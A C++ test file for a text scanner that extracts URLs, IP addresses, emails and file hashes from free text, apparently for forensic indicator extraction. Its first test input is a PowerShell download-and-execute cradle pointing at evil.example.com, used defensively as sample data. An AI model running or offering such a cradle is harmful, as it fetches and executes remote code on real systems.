#include "scan.h"

#include <doctest/doctest.h>

#include "made_batch.h"

using namespace konseki;
using namespace konseki::traces;

namespace {

/// `type:text type:text` of all tokens, from UTF-16 and from UTF-8, which must agree.
std::string tokens_of(std::string_view text) {
    MadeBatch made(0);
    std::string results[2];
    const records::Value values[2] = {made.utf16(text), records::Value::utf8(text)};
    for (std::size_t i = 0; i < 2; ++i) {
        TextScanner scanner;
        std::string storage;
        for (const Token& token : scanner.scan(values[i])) {
            if (!results[i].empty()) results[i] += ' ';
            results[i]
                .append(name_of(token.type))
                .append("=")
                .append(scanner.text(values[i], token, storage));
        }
    }
    CHECK(results[0] == results[1]);
    return results[0];
}

}  // namespace

TEST_CASE("scan: tokens are found in free text and nothing else is") {
    struct Line {
        const char *text, *tokens;
    };
    const Line lines[] = {
        {"IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')",
         "url=http://evil.example.com/a.ps1"},
        {"see https://a.example.com/x?q=1, then HTTP://B.example.com.",
         "url=https://a.example.com/x?q=1 url=HTTP://B.example.com"},
        {"(http://example.com/a_(b)) end", "url=http://example.com/a_(b))"},
        {"http://192.0.2.1:8080/x 198.51.100.7:443",
         "url=http://192.0.2.1:8080/x ipv4=198.51.100.7"},
        {"\u8a73\u7d30\u306fhttp://example.co.jp/a\u3092\u53c2\u7167",
         "url=http://example.co.jp/a"},
        {"http://example.jp\u3092\u958b\u304f", "url=http://example.jp"},
        {"http://\u4f8b\u3048.jp/x", "url=http://\u4f8b\u3048.jp/x"},
        {"ping 192.0.2.1.", "ipv4=192.0.2.1"},
        {"peer=192.0.2.1,port=3", "ipv4=192.0.2.1"},
        {"Version=4.0.30.1, 6.1.7601.17514 v1.2.3.4 1.2.3.4.5 1.2.3 10.0.0.0", ""},
        {"1.2.840.113549.1.1.5", ""},
        {"addr 2001:db8::7, fe80::1%3 ::ffff:192.0.2.9",
         "ipv4=2001:db8::7 ipv4=fe80::1 ipv4=::ffff:192.0.2.9"},
        {"[Convert]::FromBase64String std::add 12:34:56 C:\\abc 00:11:22:33:44:55", ""},
        {"mail taro.yamada@example.co.jp.", "email=taro.yamada@example.co.jp"},
        {"a@b @x.com x@ user@host .@-.", ""},
        {"md5 900150983cd24fb0d6963f7d28e17f72;", "md5=900150983cd24fb0d6963f7d28e17f72"},
        {"IMPHASH=900150983CD24FB0D6963F7D28E17F72", "imphash=900150983CD24FB0D6963F7D28E17F72"},
        {"x=a9993e364706816aba3e25717850c26c9cd0d89d",
         "sha1=a9993e364706816aba3e25717850c26c9cd0d89d"},
        {"ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad",
         "sha256=ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"},
        {"900150983cd24fb0d6963f7d28e17f720 12345678901234567890123456789012 "
         "z900150983cd24fb0d6963f7d28e17f72",
         ""},
        {"", ""},
        {"short", ""},
        {"https://", ""},
    };
    for (const Line& line : lines) {
        CAPTURE(line.text);
        CHECK(tokens_of(line.text) == line.tokens);
    }
}

TEST_CASE("scan: a token is found wherever it lies in the text") {
    for (const char* token : {"http://evil.example.com/a", "192.0.2.1", "a.b@example.com",
                              "2001:db8::7", "900150983cd24fb0d6963f7d28e17f72"}) {
        for (std::size_t before = 0; before < 140; ++before) {
            const std::string found =
                tokens_of(std::string(before, ' ') + token + std::string(before % 5, ' '));
            CHECK(found.ends_with(std::string("=") + token));
        }
    }
}

TEST_CASE("scan: hostile text of a megabyte is done long before a quadratic search would be") {
    for (const char* unit : {":", "a:", "::", "1.", "1.1.1.1.", "@", "a@", "a@a.", "f", "http://",
                             "://", "0x:", "http://a.\u3042", "aa:", "1:1.1.1.1", "."}) {
        CAPTURE(unit);
        std::string text;
        while (text.size() < 1'000'000) text += unit;
        TextScanner scanner;

        const std::span<const Token> tokens = scanner.scan(records::Value::utf8(text));

        // At a nanosecond a step, a search of n * n steps would take a quarter of an hour here.
        CHECK(tokens.size() < text.size());
    }
}
